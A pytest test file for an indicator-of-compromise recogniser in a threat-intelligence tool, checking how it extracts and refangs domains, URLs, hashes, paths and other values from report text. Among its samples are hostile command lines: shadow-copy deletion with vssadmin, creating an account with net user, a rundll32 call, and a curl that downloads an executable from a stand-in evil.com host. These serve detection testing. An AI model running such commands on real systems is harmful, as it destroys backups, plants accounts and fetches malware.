"""Values in running text: every kind, broken or plain, with its place; and what is left alone."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tocsin.stix.held import REASONS
from tocsin.stix.recognise import recognise, survey
from tocsin.stix.values import normalise, refang

SEEN = [
    ("203.0.113.7", "ipv4", "203.0.113.7", ("not-public",)),
    ("8.8.8[.]8", "ipv4", "8.8.8.8", ()),
    ("8.8.8.8:53", "ipv4", "8.8.8.8", ("port 53",)),
    ("192.168.0.0/16", "cidr", "192.168.0.0/16", ("not-public",)),
    ("192.168.0.7/16", "ipv4", "192.168.0.7", ("not-public",)),
    ("2001:db8::1", "ipv6", "2001:db8::1", ("not-public",)),
    ("::ffff:8.8.4.4", "ipv4", "8.8.4.4", ()),
    ("evil[.]example", "domain", "evil.example", ("not-public", "example-domain")),
    ("evil(dot)com", "domain", "evil.com", ()),
    ("EVIL.COM.BR", "domain", "evil.com.br", ()),
    ("bücher.de", "domain", "xn--bcher-kva.de", ()),
    ("update[.]zip", "domain", "update.zip", ()),
    ("hxxps://evil[.]com/a?b=1", "url", "https://evil.com/a?b=1", ()),
    ("http://10.0.0.1:8080/x", "url", "http://10.0.0.1:8080/x", ("not-public",)),
    ("evil.com/gate.php", "url", "http://evil.com/gate.php", ()),
    ("ops[at]evil[.]com", "email", "ops@evil.com", ()),
    ("d41d8cd98f00b204e9800998ecf8427e", "md5", "d41d8cd98f00b204e9800998ecf8427e", ()),
    ("DA39A3EE5E6B4B0D3255BFEF95601890AFD80709", "sha1", None, ()),
    ("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "sha256", None, ()),
    ("cf83e1357eefb8bd" * 8, "sha512", None, ()),
    ("cve-2021-44228", "cve", "CVE-2021-44228", ()),
    ("T1059.001", "attack-id", "T1059.001", ()),
    ("AS64496", "asn", "AS64496", ()),
    ("00:1B:44:11:3A:B7", "mac", "00:1b:44:11:3a:b7", ()),
    ("001b.4411.3ab7", "mac", "00:1b:44:11:3a:b7", ()),
    (r"HKLM\Software\Windows NT\Run", "registry-key", r"hklm\software\windows nt\run", ()),
    (r"C:\Windows\Temp\a.exe", "path", r"c:\windows\temp\a.exe", ()),
    (r"%APPDATA%\a b\c.dll", "path", r"%appdata%\a b\c.dll", ()),
    ("/tmp/.x/run.sh", "path", "/tmp/.x/run.sh", ()),
    ("dropper.exe", "file-name", "dropper.exe", ()),
    (
        "Mozilla/5.0 (X11; Linux) Gecko/2010 Firefox/3.6",
        "user-agent",
        "Mozilla/5.0 (X11; Linux) Gecko/2010 Firefox/3.6",
        (),
    ),
]


LABELLED = [
    ("Thumbprint (SHA-1): " + "3f2a9c11d0" * 4, "certificate-hash", "3f2a9c11d0" * 4),
    ("The certificate's SHA-256 fingerprint: " + "3F2A9C11" * 8, "certificate-hash", None),
    ("cert sha1 = " + "3f2a9c11d0" * 4, "certificate-hash", "3f2a9c11d0" * 4),
    ("SHA1 Fingerprint=" + ":".join(["3F", "2A"] * 10), "certificate-hash", "3f2a" * 10),
    ('The subject line was "Overdue invoice 4711".', "email-subject", "Overdue invoice 4711"),
    ("mails with the subject “Your parcel”", "email-subject", "Your parcel"),
    ("| Email subject | Overdue invoice 4711 |", "email-subject", "Overdue invoice 4711"),
    ('They created a hidden local account named "svc_backup$".', "account", "svc_backup$"),
    ("net user helpdesk Passw0rd /add", "account", "helpdesk"),
    (
        "Command line: vssadmin delete shadows /all /quiet",
        "command-line",
        "vssadmin delete shadows /all /quiet",
    ),
    (
        '"CommandLine": "rundll32.exe gate.dll,#1"',
        "command-line",
        "rundll32.exe gate.dll,#1",
    ),
]


@pytest.mark.parametrize(("text", "kind", "value"), LABELLED, ids=[one[0][:20] for one in LABELLED])
def test_what_only_a_label_tells_is_seen_behind_it(text: str, kind: str, value: str | None) -> None:
    [found] = [one for one in recognise(text) if one.kind == kind]
    assert value is None or found.value == value
    assert text[found.start : found.end] == found.raw


@pytest.mark.parametrize(
    "text",
    [
        "Subject: Guidance on Tidebeacon for all members",  # the report's own head
        "Subject: CN=gate, O=Northland",
        "The subject of the talk was the relay.",
        "CommandLine|contains: 'vssadmin'",
        "CommandLine: '*vssadmin delete*'",
        "Command line: not recorded by the sensor",
        "The new user was told to wait, and created an account for the shop.",
        "net user helpdesk",
        "SSH key fingerprint: 3f:2a:3f:2a:3f:2a:3f:2a:3f:2a:3f:2a:3f:2a:3f:2a",
        "Command line: " + "a " * 50_000,
        "subject “" * 20_000,
        "created a " * 20_000,
        "certificate hash " * 10_000,
    ],
    ids=lambda text: text[:20],
)
def test_nothing_is_made_of_what_the_label_does_not_say(text: str) -> None:
    assert recognise(text) == []


def test_the_values_in_a_command_line_stay_what_they_are() -> None:
    text = "Command line: curl -o C:\\ProgramData\\u.exe hxxp://evil[.]com/u.exe"
    kinds = {one.kind: one.value for one in recognise(text)}
    assert kinds["url"] == "http://evil.com/u.exe"
    assert kinds["path"] == r"c:\programdata\u.exe"
    assert kinds["command-line"].endswith("http://evil.com/u.exe")


def test_a_hash_of_a_file_stays_one_beside_a_certificate() -> None:
    file, cert = "3f2a9c11d0" * 4, "9c113f2ad0" * 4
    found = recognise(f"Thumbprint {cert}, signed file SHA-1 {file}")
    assert [(one.kind, one.value) for one in found] == [("certificate-hash", cert), ("sha1", file)]


@pytest.mark.parametrize(("raw", "kind", "value", "notes"), SEEN, ids=[one[0][:20] for one in SEEN])
def test_a_value_is_seen_in_a_sentence_with_its_place(
    raw: str, kind: str, value: str | None, notes: tuple[str, ...]
) -> None:
    for text in (f"It was {raw}, and no other.", f"({raw}).", raw, f"“{raw}”"):
        [found] = recognise(text)
        assert (found.kind, found.notes) == (kind, notes)
        assert found.value == (value or normalise(kind, raw))
        assert text[found.start : found.end] == found.raw
        assert found.raw in raw


@pytest.mark.parametrize(
    ("text", "values"),
    [
        (
            r"C:\Program Files (x86)\Common Files\hrn svc\run.exe and C:\a.dll starts",
            [r"c:\program files (x86)\common files\hrn svc\run.exe", r"c:\a.dll"],
        ),
        (
            r"copied C:\tmp\x.bin to \\nas\c$\tmp and ran %ProgramFiles%\Windows NT\acc.exe",
            [r"c:\tmp\x.bin", r"\\nas\c$\tmp", r"%programfiles%\windows nt\acc.exe"],
        ),
    ],
)
def test_a_folder_may_have_blanks_and_a_sentence_goes_on(text: str, values: list[str]) -> None:
    assert [one.value for one in recognise(text)] == values


def test_a_mutex_is_seen_where_it_is_called_one() -> None:
    [found] = recognise('It makes a mutex named "Global\\abc-1" first.')
    assert (found.kind, found.value) == ("mutex", "Global\\abc-1")


@pytest.mark.parametrize(
    "text",
    [
        "version 1.2.3.4",
        "v1.2.3.4 and v 1.2.3.4",
        "section 4.2.1.3 says",
        "1.2.3.4.5",
        "README.md, update.zip, setup.py and run.sh",
        "It was down.In May it rose.So it went.",
        "e.g. this, i.e. that, at 5 p.m. in the U.S. and ASP.NET",
        "std::string and 12:30:45 and ::",
        "00000000000000000000000000000000",
        "300.1.2.3",
        "3.14 and 1,000.50",
        "a@b and @handle",
    ],
)
def test_what_only_looks_like_a_value_is_left_alone(text: str) -> None:
    assert recognise(text) == []


def test_a_broken_version_number_is_an_address_after_all() -> None:
    [found] = recognise("version 1[.]2[.]3[.]4")
    assert found.value == "1.2.3.4"


def test_the_own_site_is_left_out_with_its_subdomains() -> None:
    text = "www.portco.example/a, mail@portco.example, evilportco.example"
    kept = [one.value for one in recognise(text, own_site="portco.example")]
    assert kept == ["evilportco.example"]


HELD = [
    ("version 1.2.3.4", "1.2.3.4", "version-number"),
    ("Fixed in 7.2.4.1 and later.", "7.2.4.1", "version-number"),
    ("siehe Abschnitt 4.2.1.3", "4.2.1.3", "version-number"),
    ("mask 255.255.240.0", "255.255.240.0", "netmask"),
    ("README.md", "README.md", "file-or-host"),
    ("It was called notes.txt once and notes.log", "notes.log", "bare-file-name"),
    ("It starts svchost.exe.", "svchost.exe", "system-file"),
    ("an ASP.NET page", "ASP.NET", "product-name"),
    ("in asp.net", "asp.net", "product-name"),
    ("the field process.name is", "process.name", "code-word"),
    ("obj.open(x)", "obj.open", "code-word"),
    ("it was down.In May", "down.In", "sentence-end"),
    ("00000000000000000000000000000000", "00000000000000000000000000000000", "filler"),
    ("commit 9fceb02d0ae598e95dc970b74767f19372d61af8", None, "not-a-file-hash"),
    ("see [the page](https://news.example/a)", "https://news.example/a", "reference"),
    ("# Sources\n\n- https://news.example/a\n", "https://news.example/a", "reference"),
    ("at portco.example", "portco.example", "own-site"),
]


@pytest.mark.parametrize(("text", "raw", "why"), HELD, ids=[f"{one[2]}: {one[1]}" for one in HELD])
def test_what_is_held_back_is_listed_with_its_place_and_reason(
    text: str, raw: str | None, why: str
) -> None:
    [held] = survey(text, own_site="portco.example").held
    assert held.why == why
    assert why in REASONS
    assert text[held.start : held.end] == held.raw == (raw or text.partition(" ")[2])


KEPT = [
    ("file name: update.zip", "update.zip"),
    ("update.zip " + "ab01" * 8, "update.zip"),
    ("svchost.exe | " + "ab01" * 8, "svchost.exe"),
    ("update[.]zip", "update.zip"),
    ("process[.]name", "process.name"),
    ("the server 7.2.4.1 answered", "7.2.4.1"),
    ("References to evil.com were found", "evil.com"),
    ("Sources\n\nThe host evil.com answered", "evil.com"),
    ("visit hxxps://evil[.]com/a", "https://evil.com/a"),
]


@pytest.mark.parametrize(("text", "value"), KEPT)
def test_the_line_or_the_writing_can_say_that_it_is_meant(text: str, value: str) -> None:
    assert value in [one.value for one in recognise(text)]


PARTS = [
    "evil",
    "[.]",
    ".",
    "com",
    "hxxp",
    "://",
    "@",
    "1.2.3.4",
    "::",
    "\\",
    "C:",
    "mutex",
    " ",
    '"',
]
PARTS += ["/a", "-", "CVE-2020-1234", "[at]", "é", "HKLM", "%", "Mozilla/5.0 (", ")", "[://]", "\n"]


@given(st.lists(st.sampled_from(PARTS), max_size=30).map("".join) | st.text(max_size=100))
def test_what_is_seen_stands_there_and_is_in_normal_form(text: str) -> None:
    seen = survey(text)
    last = 0
    for found in seen.found:
        assert text[found.start : found.end] == found.raw
        assert last <= found.start < found.end
        assert normalise(found.kind, found.value) == found.value
        last = found.end
    last = 0
    for held in seen.held:
        assert text[held.start : held.end] == held.raw
        assert last <= held.start < held.end
        assert held.why in REASONS
        last = held.end
    assert survey(text) == seen


BROKEN = {
    ".": ["[.]", "(.)", "{.}", "[dot]", "(dot)", " [.] ", "[d0t]", "<.>", r"\."],
    "://": ["://", "[://]", "[:]//"],
    "http": ["hxxp", "hXXp", "h__p", "h**p", "http"],
    "@": ["[@]", "[at]", "(at)", " [at] "],
}
LABEL = st.from_regex(r"[a-z][a-z0-9-]{0,8}[a-z0-9]", fullmatch=True)
HOST = st.builds("{}.{}.{}".format, LABEL, LABEL, st.sampled_from(["com", "net", "co.uk", "top"]))


@given(HOST, LABEL, st.data())
def test_what_is_broken_in_any_of_the_ways_is_mended_again(
    host: str, word: str, data: st.DataObject
) -> None:
    for kind, plain in (
        ("domain", host),
        ("url", f"http://{host}/{word}"),
        ("email", f"{word}@{host}"),
    ):
        name = host.replace(".", data.draw(st.sampled_from(BROKEN["."])))
        broken = plain.replace(host, name)
        for part in ("://", "@"):
            broken = broken.replace(part, data.draw(st.sampled_from(BROKEN[part])))
        if broken.startswith("http"):
            broken = data.draw(st.sampled_from(BROKEN["http"])) + broken[4:]
        assert refang(broken)[0].lower() == plain
        assert [(one.kind, one.value) for one in recognise(f"It was {broken} there")] == [
            (kind, plain)
        ]


HOSTILE = {
    "letters": lambda n: "a" * n,
    "labels": lambda n: "a." * (n // 2),
    "hyphens": lambda n: "a-" * (n // 2),
    "digits": lambda n: "1" * n,
    "dots and digits": lambda n: "1." * (n // 2),
    "colons": lambda n: ":" * n,
    "hex and colons": lambda n: "a:" * (n // 2),
    "ats": lambda n: "a@" * (n // 2),
    "backslashes": lambda n: "C:" + "\\" * n,
    "segments": lambda n: "C:" + "\\a b c d" * (n // 8),
    "words in a segment": lambda n: "HKLM\\a" + " b" * (n // 2),
    "slashes": lambda n: "/tmp" + "/a" * (n // 2),
    "mutexes": lambda n: "mutex " * (n // 6),
    "open mutexes": lambda n: 'mutex "a ' * (n // 9),
    "agents": lambda n: "Mozilla/5.0 (" * (n // 13),
    "urls": lambda n: "http://" * (n // 7),
    "brackets": lambda n: "http://a.com/" + "(" * n,
    "closing": lambda n: "http://a.com/" + ")" * n,
    "broken dots": lambda n: "[.]" * (n // 3),
    "underscores": lambda n: "_" * n,
    "percent": lambda n: "%a" * (n // 2),
    "files": lambda n: "a+" * (n // 2) + ".exe",
    "hex lines": lambda n: "aaaaaaaa\n" * (n // 9),
    "long hex": lambda n: "0123456789abcdef" * (n // 16),
    "base58": lambda n: "1CwR3KkRtt7ch1xZwmVLtHq2U3wU7gzQqy " * (n // 35),
    "rules": lambda n: "rule a " * (n // 7),
    "rules by line": lambda n: "rule a : b\n" * (n // 11),
    "serials": lambda n: "serial " * (n // 7),
    "serial bytes": lambda n: "serial " + "aa:" * (n // 3),
    "quoted folders": lambda n: '"C:\\a b' * (n // 7),
    "one quoted folder": lambda n: '"C:' + "\\a b" * (n // 4),
    "blotted names": lambda n: "C:\\" + "<a>" * (n // 3),
    "alternatives": lambda n: "a.co/" * (n // 5),
    "alternatives with spaces": lambda n: "a . b . " * (n // 8),
    "references": lambda n: "References\n- http://a.co\n" * (n // 25),
    "one reference list": lambda n: "References\n" + "- http://a.co/b\n" * (n // 16),
    "cited": lambda n: "visit " * (n // 6),
    "wrapped urls": lambda n: "hxxp://a[.]co/bb/cc/dd/ee/\n" * (n // 26),
    "hyphens at line ends": lambda n: "a-\n" * (n // 3),
    "escaped dots": lambda n: "a\\." * (n // 3),
    "open brackets": lambda n: "a[." * (n // 3),
    "wide": lambda n: "中a" * (n // 2),
    "wide dots": lambda n: "中." * (n // 2),
    "arabic digits": lambda n: "١٢٣." * (n // 4),
    "right to left": lambda n: "\u202e\u200fa.co" * (n // 6),
    "combining": lambda n: "e\u0301." * (n // 3),
    "fuzzy": lambda n: "3:a:" * (n // 4),
    "packages": lambda n: "npm package " * (n // 12),
    "agents in labels": lambda n: "User-Agent: a/1 " * (n // 16),
}


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.timeout(60)
def test_hostile_text_is_looked_at_in_bounded_time(name: str) -> None:
    """A quadratic pattern would not come back within the time limit of this test."""
    recognise(HOSTILE[name](300_000))
